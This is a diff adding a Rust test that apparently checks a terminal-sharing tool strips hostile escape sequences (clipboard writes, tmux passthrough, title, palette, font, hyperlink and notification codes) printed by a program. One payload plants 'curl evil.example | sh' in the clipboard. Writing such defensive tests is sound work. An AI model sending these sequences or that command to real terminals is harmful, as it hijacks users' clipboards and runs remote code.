@@ -334,3 +334,64 @@ fn an_agent_that_calls_while_you_look_elsewhere_rings_notifies_and_c_b_w_goes_th
     bb.prefix("d");
     assert_eq!(bb.wait_exit(), 0);
 }
+
+/// Nothing a program prints acts on the operator's terminal: not its
+/// clipboard (OSC 52, also smuggled through tmux's DCS passthrough or as a
+/// C1 control), its title, colours, fonts, hyperlinks, notifications,
+/// DCS/APC/PM/SOS strings. A clipboard write waits for the operator, who
+/// sees it whole first.
+#[test]
+fn a_program_cannot_act_on_the_operators_terminal() {
+    let (dir, _h, mut bb) = shell_workspace(&[("PS1", "$ ")]);
+    start(&mut bb, "shell");
+    let hostile = concat!(
+        r"\033]0;PWNED-TITLE\a\033]2;PWNED-TITLE2\a",
+        r"\033Ptmux;\033\033]52;c;UFdORUQ=\a\033\\",
+        r"\033_PWNED-APC\033\\\033^PWNED-PM\033\\\033XPWNED-SOS\033\\",
+        r"\302\23552;c;UFdORUQ=\302\234",
+        r"\033]1337;SetBadgeFormat=UFdORUQ=\a\033]4;1;rgb:ff/00/00\a",
+        r"\033]10;rgb:00/ff/00\a\033]50;PWNED-FONT\a\033]104\a",
+        r"\033]8;;http://evil.example/PWNED\aLINK\033]8;;\a",
+        r"\033]9;PWNED-NOTE\a\033]777;notify;PWNED;body\a",
+        r"\033P\$qm\033\\\033[21t",
+        // The last request is the one kept for the operator.
+        r"\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a",
+    );
+    // From a script, so the payloads are not echoed as typed text.
+    std::fs::write(
+        dir.path().join("hostile.sh"),
+        format!("printf '{hostile}done-%s\\n' hostile\n"),
+    )
+    .unwrap();
+    bb.keys(&format!("sh {}\r", dir.path().join("hostile.sh").display()));
+    bb.wait_text("done-hostile");
+    bb.wait_text("shell asks to put");
+    let raw = bb.raw();
+    let has = |needle: &[u8]| raw.windows(needle.len()).any(|w| w == needle);
+    for (what, needle) in [
+        ("a clipboard write", &b"]52;"[..]),
+        ("a title", b"]0;"),
+        ("a title", b"]2;"),
+        ("a DCS string", b"\x1bP"),
+        ("tmux passthrough", b"tmux;"),
+        ("an APC string", b"\x1b_"),
+        ("a PM string", b"\x1b^"),
+        ("an SOS string", b"\x1bX"),
+        ("a C1 OSC", "\u{9d}".as_bytes()),
+        ("an iTerm2 command", b"]1337"),
+        ("a palette change", b"]4;"),
+        ("a colour change", b"]10;rgb"),
+        ("a font change", b"]50;"),
+        ("a palette reset", b"]104"),
+        ("a hyperlink", b"]8;"),
+        ("anything of the payloads", b"PWNED"),
+    ] {
+        assert!(!has(needle), "{what} reached the outer terminal");
+    }
+    // The clipboard request is shown whole, and dropped with n.
+    bb.prefix("c");
+    bb.wait_text("curl evil.example | sh");
+    bb.keys("n");
+    bb.wait_text("did not set your clipboard");
+    assert!(!bb.raw().windows(4).any(|w| w == b"]52;"));
+}
